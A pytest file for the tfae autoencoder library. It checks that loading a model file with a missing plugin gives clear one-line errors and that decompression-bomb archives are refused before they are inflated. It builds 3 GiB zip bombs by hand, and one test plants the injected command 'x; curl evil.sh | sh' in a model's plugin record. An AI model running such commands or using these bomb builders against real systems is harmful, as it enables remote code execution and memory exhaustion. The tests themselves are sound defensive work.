"""Model files that name a component nobody provides, and archives built to exhaust memory: each gets one
clear line from ``tfae.load_model`` and from the CLI, before Keras reads the file or anything is inflated.

The plugins are real distributions on PYTHONPATH (``plugin_fixtures``), present when a model is saved and
gone, left out, broken or changed when it loads, each in a fresh interpreter. The oversized archives are
real zip files: a DEFLATE stream that inflates to 3 GiB of spaces takes 3 MB, and is written by hand
beside a real model's members (zipfile cannot write precompressed data).
"""

import json
import struct
import zipfile
import zlib

import numpy as np
import pytest

import tfae
from plugin_fixtures import plugin_distribution, run_python, write_distribution
from tfae.cli import main
from tfae.errors import ModelFileError
from tfae.models import Autoencoder
from tfae.models.archive import MAX_CONFIG_BYTES
from tfae.models.saving import load_model
from tfae.regularizers import L2Regularizer

GIB = 2**30

PLUGIN = """
    from keras import ops

    import tfae
    from tfae.bottlenecks import VanillaBottleneck
    from tfae.regularizers import BaseRegularizer


    class ScaledBottleneck(VanillaBottleneck):
        pass


    class MeanSquareRegularizer(BaseRegularizer):
        def calc(self, mean, *rest):
            return ops.sum(ops.square(mean), axis=-1)


    @tfae.hookimpl
    def register_bottlenecks(register):
        register(ScaledBottleneck, name="scaled")


    @tfae.hookimpl
    def register_regularizers(register):
        register(MeanSquareRegularizer, name={name!r})
    """


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    """A tfae model file naming a bottleneck, a regularizer, a scheduler and a likelihood, and its predictions."""
    folder = tmp_path_factory.mktemp("good")
    regularizer = {"name": "kld", "beta": {"name": "dasr", "attack": 3}}
    model = Autoencoder(
        # Named, so that the messages' layer name is the same however many models this process has made.
        bottleneck={"name": "gaussian", "latent_dim": 2, "regularizer": regularizer},
        likelihood="bernoulli",
    )
    model.bottleneck.name = "gaussian_bottleneck"
    model.build((None, 8))
    model.save(folder / "good.keras")
    inputs = np.random.default_rng(0).random((4, 8)).astype("float32")
    return folder / "good.keras", inputs, model.predict(inputs, verbose=0)


def _members(path):
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _rezip(target, members, compression=zipfile.ZIP_STORED):
    with zipfile.ZipFile(target, "w", compression) as out:
        for name, content in members.items():
            out.writestr(name, content)
    return target


def _edit_config(source, target, edit):
    members = _members(source)
    config = json.loads(members["config.json"])
    edit(config)
    return _rezip(target, {**members, "config.json": json.dumps(config)})


def _bottleneck_layer(config):
    return config["config"]["encoder"]["config"]["layers"][1]


def refused(path, *fragments, **arguments):
    """Loads ``path``; checks that ``ModelFileError`` says, on one line naming the file, every fragment."""
    with pytest.raises(ModelFileError) as caught:
        tfae.load_model(path, **arguments)
    message = str(caught.value)
    assert "\n" not in message and str(path) in message, message
    for fragment in fragments:
        assert fragment in message, message
    return message


def test_a_model_records_who_provided_each_component(good):
    path, _, _ = good
    record = json.loads(_members(path)["config.json"])["config"]["components"]
    provided = {(entry["kind"], entry["name"], entry["class"]) for entry in record}
    assert provided == {
        ("likelihood", "bernoulli", "BernoulliLikelihood"),
        ("bottleneck", "gaussian", "GaussianBottleneck"),
        ("regularizer", "kld", "GaussianKLDRegularizer"),
        ("scheduler", "dasr", "DASRScheduler"),
    }
    assert {(entry["distribution"], entry["version"]) for entry in record} == {("tfae", tfae.__version__)}


def test_a_file_without_the_record_still_loads(good, tmp_path):
    """Files saved before tfae recorded the providers, and Keras' own loader, which leaves the record to tfae."""
    import keras

    path, inputs, expected = good
    old = _edit_config(path, tmp_path / "old.keras", lambda config: config["config"].pop("components", None))
    assert "components" not in json.loads(_members(old)["config.json"])["config"]
    for loaded in (tfae.load_model(old), keras.saving.load_model(path)):
        assert type(loaded).__name__ == "Autoencoder"
        np.testing.assert_array_equal(loaded.predict(inputs, verbose=0), expected)


def test_a_component_the_registry_cannot_name_is_left_out_of_the_record():
    from tfae.bottlenecks import VanillaBottleneck

    class NotRegisteredBottleneck(VanillaBottleneck):
        pass

    model = Autoencoder(bottleneck=NotRegisteredBottleneck(2, regularizer="l2"))
    model.build((None, 8))
    record = model.get_config()["components"]
    assert [(entry["kind"], entry["name"]) for entry in record] == [("regularizer", "l2")]


MISSPELT = {
    "regularizer": (
        lambda config: _bottleneck_layer(config)["config"]["regularizer"].update(name="kldd"),
        "needs the regularizer 'kldd' (in layer 'gaussian_bottleneck'), which no loaded plugin provides. "
        "Did you mean 'kld'? Available regularizers: ",
    ),
    "scheduler": (
        lambda config: _bottleneck_layer(config)["config"]["regularizer"]["beta"].update(name="dsar"),
        "needs the scheduler 'dsar' (in layer 'gaussian_bottleneck'), which no loaded plugin provides. "
        "Did you mean 'dasr'?",
    ),
    "likelihood": (
        lambda config: config["config"]["likelihood"].update(name="bernouli"),
        "needs the likelihood 'bernouli', which no loaded plugin provides. Did you mean 'bernoulli'?",
    ),
}


@pytest.mark.parametrize("kind", sorted(MISSPELT))
def test_a_name_nothing_registers_is_named_with_the_closest_one(good, tmp_path, kind):
    edit, expected = MISSPELT[kind]
    path = _edit_config(good[0], tmp_path / f"{kind}.keras", edit)
    message = refused(path, expected, "install the package that provides it")
    assert "could not be deserialized" not in message and "from_config" not in message


def test_a_bottleneck_class_no_package_has(good, tmp_path):
    def rename(config):
        _bottleneck_layer(config).update(class_name="WarpBottleneck", registered_name="WarpBottleneck")

    path = _edit_config(good[0], tmp_path / "warp.keras", rename)
    refused(
        path,
        "needs the bottleneck class 'WarpBottleneck' (in layer 'gaussian_bottleneck'), which no loaded plugin "
        "provides.",
        "Available bottlenecks: bernoulli, gaussian, vanilla.",
        "If it is a class of your own, import it before loading, or pass it in custom_objects.",
    )


class HalfL2Regularizer(L2Regularizer):
    pass


class Notebook:
    """A plugin registered at run time, as a notebook would."""

    @tfae.hookimpl
    def register_regularizers(register):
        register(HalfL2Regularizer, name="half_l2")


def test_a_run_time_plugin_that_is_gone_is_named(tmp_path):
    from tfae import plugins

    plugins.register_plugin(Notebook, name="notebook")
    try:
        model = Autoencoder(bottleneck={"name": "vanilla", "latent_dim": 2, "regularizer": "half_l2"})
        model.bottleneck.name = "vanilla_bottleneck"  # the same whatever this process made before
        model.build((None, 8))
        model.save(tmp_path / "notebook.keras")
    finally:
        plugins.unregister_plugin("notebook")
    refused(
        tmp_path / "notebook.keras",
        "needs the regularizer 'half_l2' (in layer 'vanilla_bottleneck'), which the plugin 'notebook' registered "
        "at run time when the model was saved (the file's claim); register that plugin (tfae.plugins.register_plugin) "
        "before loading",
    )


@pytest.mark.slow  # two fresh interpreters with plugin site folders, ~10 CPU-s
def test_a_plugin_that_is_gone_left_out_broken_or_changed_is_named_with_what_to_install(tmp_path):
    site = plugin_distribution(tmp_path / "installed", "meansq", "0.3.1", PLUGIN.format(name="meansq"))
    saved = run_python(
        f"""
        import json, zipfile
        import tfae
        from tfae.models import Autoencoder

        folder = {str(tmp_path)!r}
        for name, bottleneck in [
            ("regularizer", {{"name": "gaussian", "latent_dim": 2, "regularizer": "meansq"}}),
            ("bottleneck", {{"name": "scaled", "latent_dim": 2}}),
        ]:
            model = Autoencoder(bottleneck=bottleneck)
            model.build((None, 8))
            model.save(f"{{folder}}/{{name}}.keras")
        # The control: with the plugin installed, both files load.
        files = [f"{{folder}}/{{name}}.keras" for name in ("regularizer", "bottleneck")]
        loaded = [type(tfae.load_model(file)).__name__ for file in files]
        with zipfile.ZipFile(f"{{folder}}/regularizer.keras") as archive:
            record = json.loads(archive.read("config.json"))["config"]["components"]
        print(json.dumps({{"loaded": loaded, "record": record}}))
        """,
        [site],
    )
    assert saved["loaded"] == ["Autoencoder", "Autoencoder"]
    assert {
        "kind": "regularizer",
        "name": "meansq",
        "class": "MeanSquareRegularizer",
        "distribution": "tfae-meansq",
        "version": "0.3.1",
        "plugin": "meansq",
    } in saved["record"]

    changed = plugin_distribution(tmp_path / "changed", "meansq", "0.4.0", PLUGIN.format(name="mean_square"))
    broken = write_distribution(
        tmp_path / "broken",
        "tfae-meansq",
        "0.3.1",
        {"meansq": "meansq_broken"},
        {"meansq_broken": "raise ImportError('meansq needs libmeansq.so')"},
    )
    rival = plugin_distribution(tmp_path / "rival", "rival", "2.0", PLUGIN.format(name="meansq"))
    messages = run_python(
        f"""
        import json, os, sys
        import tfae
        from tfae import plugins
        from tfae.errors import ModelFileError

        folder = {str(tmp_path)!r}
        sites = {[str(site), str(changed), str(broken), str(rival)]!r}

        def attempt(file, *chosen, **environment):
            sys.path[:] = [*chosen, *[entry for entry in sys.path if entry not in sites]]
            sys.modules.pop("meansq_plugin", None)
            os.environ.pop("TFAE_DISABLE_PLUGIN_AUTOLOAD", None)
            os.environ.update(environment)
            plugins.reload_plugins()
            try:
                tfae.load_model(f"{{folder}}/{{file}}.keras")
                return "loaded"
            except ModelFileError as error:
                return str(error)

        print(json.dumps({{
            "gone": attempt("regularizer"),
            "bottleneck gone": attempt("bottleneck"),
            "left out": attempt("regularizer", sites[0], TFAE_DISABLE_PLUGIN_AUTOLOAD="1"),
            "changed": attempt("regularizer", sites[1]),
            "broken": attempt("regularizer", sites[2]),
            "claimed twice": attempt("regularizer", sites[0], sites[3]),
        }}))
        """
    )
    path = tmp_path / "regularizer.keras"
    # The record is the file's claim: named as such, never made into an install command (issue 27).
    claim = (
        "which no loaded plugin provides; the file says it came from tfae-meansq 0.3.1 (the file's claim, unchecked), "
        "and "
    )
    needs = f"{path} needs the regularizer 'meansq' (in layer 'gaussian_bottleneck'), {claim}"
    not_installed = (
        "no distribution of that name is installed: if you trust the file, install the plugin that provides it (check "
        "the distribution's name and its publisher first: a model file can name any distribution)"
    )
    assert messages["gone"] == needs + not_installed
    assert messages["bottleneck gone"] == (
        f"{tmp_path / 'bottleneck.keras'} needs the bottleneck class 'ScaledBottleneck' "
        "(in layer 'scaled_bottleneck'), " + claim + not_installed
    )
    assert messages["left out"] == needs + (
        "tfae-meansq, installed here, is not loaded: TFAE_PLUGINS or TFAE_DISABLE_PLUGIN_AUTOLOAD leaves it out; "
        "add tfae-meansq to TFAE_PLUGINS"
    )
    assert messages["changed"] == needs + (
        "tfae-meansq 0.4.0, installed here, registers no regularizer 'meansq' (`tfae plugins` lists what each plugin "
        "registers)"
    )
    assert messages["broken"] == needs + (
        "tfae-meansq 0.3.1, installed here, failed to load (ImportError: meansq needs libmeansq.so); "
        "`tfae plugins` lists the plugins and their errors"
    )
    assert not any("pip install" in message for message in messages.values())
    assert messages["claimed twice"].startswith(
        f"{path} names the regularizer 'meansq' (in layer 'gaussian_bottleneck'), and: "
    )
    assert "tfae-meansq" in messages["claimed twice"] and "tfae-rival" in messages["claimed twice"]


def test_a_recorded_distribution_that_is_no_project_name_is_never_suggested(good, tmp_path):
    def hostile_record(config):
        _bottleneck_layer(config)["config"]["regularizer"]["name"] = "mmd"
        config["config"]["components"] = [
            {"kind": "regularizer", "name": "mmd", "distribution": "x; curl evil.sh | sh", "version": "1"}
        ]

    message = refused(_edit_config(good[0], tmp_path / "hostile.keras", hostile_record), "needs the regularizer 'mmd'")
    assert "curl" not in message and "pip install" not in message


@pytest.mark.parametrize("command", ["encode", "generate"])
def test_the_cli_names_the_missing_component_in_one_line(good, tmp_path, capsys, command):
    path = _edit_config(good[0], tmp_path / "kldd.keras", MISSPELT["regularizer"][0])
    arguments = [command, str(path)] + (["digits"] if command == "encode" else [])
    assert main([*arguments, "-o", str(tmp_path / "out.npy")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"tfae {command}: error: {path} needs the regularizer 'kldd'"), err
    assert len(err.splitlines()) == 1 and not (tmp_path / "out.npy").exists()


def _spaces_deflated(size, chunk=2**20):
    """A raw DEFLATE stream of ``size`` spaces: after a full flush each 1 MiB block compresses alike, so the
    stream is one block's 1 kB repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b" " * chunk
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    return first * (size // chunk) + compressor.flush()


def _write_zip(path, members):
    """Writes a zip archive of ``{name: (data as stored, method, crc, declared size)}``."""
    body, directory = bytearray(), bytearray()
    for name, (data, method, crc, size) in members.items():
        encoded, offset = name.encode(), len(body)
        fields = (method, 0, 0x21, crc, len(data), size, len(encoded))  # 0x21: 1 January 1980
        body += struct.pack("<4s3H2H3L2H", b"PK\x03\x04", 20, 0, *fields, 0) + encoded + data
        directory += struct.pack("<4s4H2H3L5H2L", b"PK\x01\x02", 20, 20, 0, *fields, 0, 0, 0, 0, 0, offset)
        directory += encoded
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(body), 0)
    path.write_bytes(bytes(body + directory + end))
    return path


def _stored(content):
    return (content, zipfile.ZIP_STORED, zlib.crc32(content), len(content))


def _bomb(source, target, member, size=3 * GIB):
    """``source``'s members with ``member`` replaced by a stream that inflates to ``size`` spaces.

    Its CRC is left at 0: tfae must refuse the member before reading it, so nothing ever checks it.
    """
    members = {name: _stored(content) for name, content in _members(source).items()}
    members[member] = (_spaces_deflated(size), zipfile.ZIP_DEFLATED, 0, size)
    return _write_zip(target, members)


@pytest.fixture(scope="module")
def bombs(good, tmp_path_factory):
    folder = tmp_path_factory.mktemp("bombs")
    source = good[0]
    return {
        "config.json": _bomb(source, folder / "config_bomb.keras", "config.json"),
        "model.weights.h5": _bomb(source, folder / "weights_bomb.keras", "model.weights.h5"),
    }


def test_the_bombs_are_real(bombs):
    """The control: each bomb's member really inflates, past 64 MiB, from a few megabytes on disk."""
    for member, path in bombs.items():
        assert path.stat().st_size < 4 * 2**20
        with zipfile.ZipFile(path) as archive:
            info = archive.getinfo(member)
        assert info.file_size == 3 * GIB
        with open(path, "rb") as file:
            file.seek(info.header_offset + 30 + len(info.filename))
            stream = file.read(info.compress_size)
        assert zlib.decompressobj(-15).decompress(stream, 64 * 2**20) == b" " * (64 * 2**20)


def test_a_config_that_declares_3_gib_is_refused_before_inflating(bombs):
    refused(
        bombs["config.json"],
        ": its config.json declares 3.0 GiB, over the 16.0 MiB limit on what tfae reads of it",
        "it was not inflated",
        "raise the limit: load_model(..., max_config_bytes=N) or TFAE_MAX_MODEL_CONFIG_BYTES=N",
    )


def test_weights_that_inflate_a_thousandfold_are_refused_before_inflating(bombs):
    refused(
        bombs["model.weights.h5"],
        "is a decompression bomb: its members declare 3.0 GiB in all (model.weights.h5 3.0 GiB), more than 100 "
        "times the 3.0 MiB the file takes on disk",
    )


def test_refusing_a_bomb_inflates_nothing(bombs, good, tmp_path):
    """Peak memory, measured in a fresh process, barely moves: for the bomb, and for a lying zip whose
    config.json declares its real size (and checksum) but whose stream goes on for 1 GiB of spaces.

    zipfile cuts a member at its declared size, but only after inflating up to 2 GiB of it in one piece
    when the whole member is read, as Keras reads config.json and the weights."""
    members = _members(good[0])
    config = members["config.json"]
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    lying_stream = compressor.compress(config) + compressor.flush(zlib.Z_FULL_FLUSH) + _spaces_deflated(GIB)
    lying = {name: _stored(content) for name, content in members.items()}
    lying["config.json"] = (lying_stream, zipfile.ZIP_DEFLATED, zlib.crc32(config), len(config))
    _write_zip(tmp_path / "lying.keras", lying)
    result = run_python(
        f"""
        import json, resource
        import tfae
        from tfae import plugins
        from tfae.errors import ModelFileError
        import tfae.models.saving

        plugins.get_registry()

        def peak():
            return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024

        before = peak()
        try:
            tfae.load_model({str(bombs["config.json"])!r})
            refused = ""
        except ModelFileError as error:
            refused = str(error)
        after_bomb = peak()
        try:
            tfae.load_model({str(tmp_path / "lying.keras")!r})
            lying = ""
        except ModelFileError as error:
            lying = str(error)
        print(json.dumps({{"refused": refused, "bomb": after_bomb - before, "lying": lying,
                          "lying_grew": peak() - after_bomb}}))
        """
    )
    assert "config.json declares 3.0 GiB" in result["refused"]
    assert result["bomb"] < 16 * 2**20, result
    assert result["lying"] == (
        f"{tmp_path / 'lying.keras'} is damaged or built to exhaust memory: its member config.json declares "
        f"{len(config) / 1024:.1f} KiB but its stream inflates to more; it was not inflated further"
    )
    assert result["lying_grew"] < 16 * 2**20, result


def test_a_stored_member_longer_than_it_declares_is_refused(good, tmp_path):
    members = {name: _stored(content) for name, content in _members(good[0]).items()}
    config = members["config.json"][0]
    padded = config + b" " * 2**20
    members["config.json"] = (padded, zipfile.ZIP_STORED, zlib.crc32(config), len(config))
    refused(
        _write_zip(tmp_path / "long.keras", members),
        "is damaged: its member config.json is stored uncompressed in 1.0 MiB but declares "
        f"{len(config) / 1024:.1f} KiB",
    )


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_member_compressed_another_way_is_refused(good, tmp_path, method):
    path = _rezip(tmp_path / "other.keras", _members(good[0]), method)
    refused(path, f"compresses its member metadata.json with method {method}; a .keras file's members are stored")


# Slow: the real command (~10 CPU-s), beside the refusals checked in this process above; .ci/run runs it.
@pytest.mark.slow
def test_the_real_command_refuses_the_bomb_in_one_line(bombs, tmp_path, run_tfae):
    result = run_tfae("encode", bombs["config.json"], "digits", "-o", tmp_path / "codes.npy", cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.stderr and "MemoryError" not in result.stderr, result.stderr
    assert lines[0].startswith(f"tfae encode: error: {bombs['config.json']}: its config.json declares 3.0 GiB")
    assert not (tmp_path / "codes.npy").exists()


def test_the_limit_is_an_argument_and_an_environment_variable(good, monkeypatch):
    path, _, _ = good
    refused(path, "its config.json declares ", " KiB, over the 1000 bytes limit", max_config_bytes=1000)
    monkeypatch.setenv("TFAE_MAX_MODEL_CONFIG_BYTES", "1000")
    refused(path, "over the 1000 bytes limit")
    assert type(tfae.load_model(path, max_config_bytes=100_000)).__name__ == "Autoencoder"


@pytest.mark.parametrize("value", [0, -1, True, 1.5, "16MiB"])
def test_a_limit_that_is_no_number_of_bytes(good, value):
    with pytest.raises(ValueError, match=r"`max_config_bytes` must be a positive whole number of bytes, such as "):
        load_model(good[0], max_config_bytes=value)


@pytest.mark.parametrize("text", ["lots", "0", "-5", "1e6"])
def test_an_environment_variable_that_is_no_number_of_bytes(good, monkeypatch, text):
    monkeypatch.setenv("TFAE_MAX_MODEL_CONFIG_BYTES", text)
    message = f"TFAE_MAX_MODEL_CONFIG_BYTES must be a positive whole number of bytes, such as {MAX_CONFIG_BYTES}"
    with pytest.raises(ValueError) as caught:
        tfae.load_model(good[0])
    assert str(caught.value) == f"{message} (16 MiB, the default). Received: TFAE_MAX_MODEL_CONFIG_BYTES={text!r}"


def test_a_real_config_past_the_limit_loads_once_the_limit_is_raised(good, tmp_path):
    """A valid config.json of 20 MiB (the model's, then whitespace), deflated to a few kilobytes on disk."""
    path, inputs, expected = good
    members = _members(path)
    members["config.json"] = members["config.json"] + b" " * (20 * 2**20)
    padded = _rezip(tmp_path / "padded.keras", members, zipfile.ZIP_DEFLATED)
    assert padded.stat().st_size < 2**20
    refused(padded, "its config.json declares 20.0 MiB, over the 16.0 MiB limit")
    loaded = tfae.load_model(padded, max_config_bytes=32 * 2**20)
    np.testing.assert_array_equal(loaded.predict(inputs, verbose=0), expected)


def test_the_limit_is_documented():
    from pathlib import Path

    docs = Path(__file__).parents[1] / "docs"
    assert MAX_CONFIG_BYTES == 16 * 2**20
    for text in (load_model.__doc__, (docs / "reliability.md").read_text(), (docs / "SECURITY.md").read_text()):
        assert "TFAE_MAX_MODEL_CONFIG_BYTES" in text and "max_config_bytes" in text and "16 MiB" in text
